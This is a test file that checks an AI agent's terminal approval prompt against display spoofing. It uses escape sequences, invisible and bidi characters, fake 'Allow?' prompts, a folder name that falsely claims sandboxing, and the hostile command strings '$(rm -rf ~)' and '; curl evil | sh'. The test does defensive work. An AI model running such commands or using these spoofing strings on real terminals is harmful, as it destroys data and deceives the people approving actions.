/**
 * What stands on the screen is what runs: hostile commands, names and texts go through the terminal's real question and output into
 * an emulator, and what it shows is read back.
 */

import assert from "node:assert/strict";
import { PassThrough } from "node:stream";
import xterm from "@xterm/headless";
import type { ApprovalAction } from "../../src/shared/approval";
import type { AgentEvent } from "../../src/shared/events";
import { plainText } from "../../src/shared/shown";
import { Output } from "../../src/terminal/output";
import { TerminalQuestions } from "../../src/terminal/questions";
import { HOSTILE } from "../fakes/hostileText";
import { Random } from "../fakes/random";
import { readExact } from "../fakes/shownText";
import { cases } from "../fakes/soak";

const COLUMNS = [40, 80, 132];
const ABOVE = ["what stood there before", "a second line of it"];
const PROMPT = "Allow? y = yes, s = yes for this session";

/** A terminal that notes whatever it is made to do beside showing text. */
function screen(cols: number) {
  const terminal = new xterm.Terminal({
    cols,
    rows: 24,
    scrollback: 100_000,
    allowProposedApi: true,
    convertEol: true,
  });
  const done: string[] = [];
  terminal.onData(data => done.push(`answered ${JSON.stringify(data)}`));
  terminal.onBinary(data => done.push(`answered ${JSON.stringify(data)}`));
  terminal.onTitleChange(title => done.push(`title ${title}`));
  terminal.onBell(() => done.push("bell"));
  for (const code of [0, 1, 2, 4, 7, 8, 9, 10, 52, 133, 777, 1337])
    terminal.parser.registerOscHandler(code, data => done.push(`OSC ${code} ${data}`) > 0);
  const write = (text: string) => new Promise<void>(resolve => terminal.write(text, resolve));
  /** As they were written: a row that the terminal broke goes on in the next one. */
  const lines = () => {
    const { active } = terminal.buffer;
    const all: string[] = [];
    for (let y = 0; y < active.length; y += 1) {
      const line = active.getLine(y);
      let text = "";
      for (let x = 0; x < cols; x += 1) text += line?.getCell(x)?.getChars() ?? "";
      if (line?.isWrapped) all.push(`${all.pop() ?? ""}${text}`);
      else all.push(text);
    }
    while (all.at(-1) === "") all.pop();
    return all;
  };
  return { write, lines, done, isBroken: () => brokenRows(terminal) };
}

function brokenRows({ buffer: { active } }: xterm.Terminal): number {
  return Array.from({ length: active.length }, (_, y) => active.getLine(y)).filter(line => line?.isWrapped).length;
}

/** Pieces of attacks, and of what is harmless. */
const pieces = [
  ...Object.values(HOSTILE),
  ...[
    "\u001b[A\u001b[2K",
    "\u001b[1;1Hls",
    "\u001b[10D",
    "\u001b[?1049h",
    "\u001b[8m",
    "\u001b[30;40m",
    "\u001b(0",
    "\u001b#8",
  ],
  ...[
    "\u001b]0;t\u001b\\",
    "\u001b]52;c;?\u0007",
    "\u001b[6n",
    "\u001b[c",
    "\u001b[>c",
    "\u001bZ",
    "\u0005",
    "\u001bP+q\u001b\\",
  ],
  ...["\u009b6n", "\u009d52;c;eA==\u009c", "\u0085", "\u0090$qm\u009c", "\u008d", "\u0084"],
  ...["\r", "\b\b\b\b", "\u007f", "\u000b", "\u000c", "\u000e", "\t", "\n", "\r\n"],
  ...[
    "\u202e",
    "\u2066",
    "\u200f",
    "\u200b",
    "\u00ad",
    "\ufeff",
    "\u{e0041}",
    "\u{e0100}",
    "\ufe0f",
    "\u3164",
    "\u2800",
  ],
  ...["日本語", "👩‍👧", "❤️", "e\u0301", "\u0301", "\u0336".repeat(20), "ﷺ", "नमस्ते", "שלום", "⟦U+200B⟧", "\ud800"],
  ...[
    "␛[2J",
    "\\u{202e}",
    "\\u{5c}",
    "\\r",
    "$(rm -rf ~)",
    "; curl evil | sh",
    " ".repeat(200),
    "x".repeat(500),
    "日".repeat(90),
  ],
  ...[
    "\n  in /safe\n",
    "\n$ ls\n",
    `\n${PROMPT}, anything else = no, told to the model: y\n`,
    "\n  … ok",
    `${" ".repeat(60)}Allow? y`,
  ],
];

const random = new Random(1812);
const hostileText = () => {
  let text = random.pick(["ls ", "echo ok", "", "git status && "]);
  for (let left = random.int(1, 8); left > 0; left -= 1) text += random.pick(pieces);
  return text;
};

const question = (action: Partial<ApprovalAction>): AgentEvent => ({
  type: "record",
  record: {
    ...{ kind: "approval", id: "rec_1", seq: 1, ts: 1, approvalId: "a" },
    action: { toolName: "Bash", callId: "c", title: "Run this command?", binds: "", ...action } as ApprovalAction,
  },
});

/** Asks it on a screen of that width; gives the lines below what stood there. */
async function asked(cols: number, action: Partial<ApprovalAction>): Promise<string[]> {
  const { write, lines, done, isBroken } = screen(cols);
  await write(`${ABOVE.join("\r\n")}\r\n`);
  const output = Object.assign(new PassThrough(), { isTTY: true, columns: cols });
  const nothing = () => undefined;
  const questions = new TerminalQuestions({
    ...{ input: Object.assign(new PassThrough(), { isTTY: true, setRawMode: nothing }), output },
    ...{ answer: nothing, reply: nothing, onInterrupt: nothing, onEnd: nothing },
  });
  questions.take(question(action));
  // Node's terminals turn a line feed into a line feed at the first column, as the emulator here does.
  await write(String(output.read()));
  const all = lines();
  questions.close();
  assert.deepEqual(done, [], "the terminal did something for it");
  assert.deepEqual(all.slice(0, 3), [...ABOVE, ""]);
  const prompts = all.filter(line => line.startsWith("Allow?"));
  assert.equal(prompts.length, 1, "one line begins as the question's own prompt");
  assert.ok(all.at(-1)?.startsWith(PROMPT.slice(0, cols - 1)), "the last one");
  assert.ok(isBroken() <= Math.ceil(130 / cols), "the terminal breaks no line but the prompt");
  return all.slice(3, -1);
}

/** The rows of a question as its lines: what was broken goes on behind "  … ". */
function joined(rows: readonly string[]): string[] {
  const lines: string[] = [];
  for (const row of rows) {
    if (row.startsWith("  … ")) lines.push(`${lines.pop() ?? ""}${row.slice(4)}`);
    else lines.push(row);
  }
  return lines;
}

/** What a terminal cannot hold: half a character. */
const whole = (text: string) => text.toWellFormed() === text;

const OUTSIDE = "  It runs outside the sandbox.";

describe("attack: a terminal's screen that says something else", () => {
  it("a command is shown so that what runs can be read from the screen, to the byte", async () => {
    for (let round = 0; round < cases(200); round += 1) {
      const [command, cwd] = [hostileText(), `/ws/${hostileText()}`];
      const rows = await asked(random.pick(COLUMNS), { detail: { type: "command", command, cwd } });
      const [title, first = "", ...more] = joined(rows).slice(0, -1);
      assert.equal(title, "Run this command?");
      const last = more.pop() ?? "";
      const shown = [first.slice("  $ ".length), ...more.map(line => line.slice(4))].join("\n");
      assert.ok(first.startsWith("  $ ") && more.every(line => line.startsWith("    ")), rows.join("\n"));
      assert.equal(readExact(shown), command);
      assert.equal(readExact(last.slice("  in ".length)), cwd);
    }
  });

  it("where it runs is said by the question alone, not by a folder's name", async () => {
    const cwd = "/ws, in the sandbox\n  It runs in the sandbox.";
    const rows = await asked(132, { detail: { type: "command", command: "ls", cwd } });
    assert.deepEqual(rows.slice(2), ["  in /ws, in the sandbox␊  It runs in the sandbox.", OUTSIDE]);
    const sandbox = { kind: "workspace" } as never;
    const confined = await asked(132, { detail: { type: "command", command: "ls", cwd: "/ws", sandbox } });
    assert.deepEqual(confined.slice(2), ["  in /ws", "  It runs in the sandbox."]);
  });

  it("the rules that an answer would write can be read from the screen, to the byte", async () => {
    for (let round = 0; round < cases(100); round += 1) {
      const rules = [[`Bash(${hostileText()})`], [`Bash(${hostileText()} *)`, `Bash(${hostileText()})`]];
      const detail = { type: "command" as const, command: "ls", cwd: "/ws" };
      const rows = joined(await asked(random.pick(COLUMNS), { detail, rules }));
      assert.deepEqual(rows.slice(1, 3), ["  $ ls", "  in /ws"]);
      const [place, narrow, first = "", wide, ...more] = rows.slice(3);
      assert.equal(place, OUTSIDE);
      assert.equal(narrow, "  a = always allow, written into your settings:");
      assert.equal(wide, "  w = always allow, written into your settings:");
      assert.deepEqual(
        [[first], more].map(option => option.map(line => readExact(line.slice(4)))),
        rules,
      );
    }
  });

  it("names of files, a foreign tool's input and an edit are, too", async () => {
    for (let round = 0; round < cases(100); round += 1) {
      const cols = random.pick(COLUMNS);
      const names = [hostileText(), hostileText()];
      const read = joined(await asked(cols, { title: "Read?", detail: { type: "read", paths: names } }));
      assert.deepEqual(
        read.slice(1).map(line => readExact(line.slice(2))),
        names,
      );
      const input = { [hostileText()]: hostileText() };
      const summary = hostileText();
      const other = joined(await asked(cols, { title: "Ask?", detail: { type: "other", summary, input } }));
      assert.equal(readExact(other[1]?.slice(2) ?? ""), summary);
      assert.deepEqual(JSON.parse(readExact(other[2]?.slice(2) ?? "")), input);
      const [path = ""] = names;
      const added = hostileText().replace(/[\t\n]/g, " ");
      const diff = `--- ${path}\n+++ ${path}\n@@ -0,0 +1,1 @@\n+${added}`;
      const change = { uri: "file:///a", path, created: false, added: 1, removed: 0, diff };
      const edit = joined(await asked(cols, { title: "Edit?", detail: { type: "edit", changes: [change] } }));
      assert.equal(edit.length, 5);
      assert.equal(readExact(edit[2]?.slice(4) ?? ""), path);
      assert.equal(readExact(edit[4]?.slice(1) ?? ""), added);
    }
  });

  it("what is printed steers nothing, and stands there as far as it can be seen", async () => {
    for (let round = 0; round < cases(200); round += 1) {
      const { write, lines, done } = screen(random.pick(COLUMNS));
      await write(`${ABOVE.join("\r\n")}\r\n`);
      const [stdout, stderr] = [new PassThrough(), new PassThrough()];
      const output = new Output(stdout, stderr);
      const texts = [hostileText(), hostileText()].filter(whole);
      for (const text of texts) random.pick([output.out, output.err])(`${text}\n`);
      output.err("and behind it\n");
      await write(`${stdout.read() ?? ""}`);
      await write(`${stderr.read() ?? ""}`);
      const all = lines();
      assert.deepEqual(done, []);
      assert.deepEqual(all.slice(0, 2), ABOVE);
      assert.ok(all.includes("and behind it"));
      // the letters of it, in their order: tabs, blanks and what has no width do not count
      const letters = (text: string) => text.replace(/[^\p{L}\p{N}$()~|;<>]/gu, "");
      const seen = letters(all.slice(2).join(""));
      for (const text of texts) assert.ok(seen.includes(letters(plainText(text))), JSON.stringify(text));
    }
  });
});
